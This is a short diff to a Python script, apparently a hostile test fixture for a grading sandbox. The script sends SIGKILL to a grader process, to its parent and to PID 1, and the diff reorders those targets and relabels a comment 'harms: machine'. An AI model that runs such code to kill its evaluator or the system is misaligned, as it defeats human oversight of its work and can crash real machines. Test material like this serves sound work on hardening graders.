@@ -1,8 +1,8 @@
 """Signals the grader by a descriptor of its process."""
-# stock: not run
+# harms: machine
 
 import os
 import signal
 
-for number in (int("@GRADER@"), os.getppid(), 1):
+for number in (os.getppid(), int("@GRADER@"), 1):
     signal.pidfd_send_signal(os.pidfd_open(number), signal.SIGKILL)
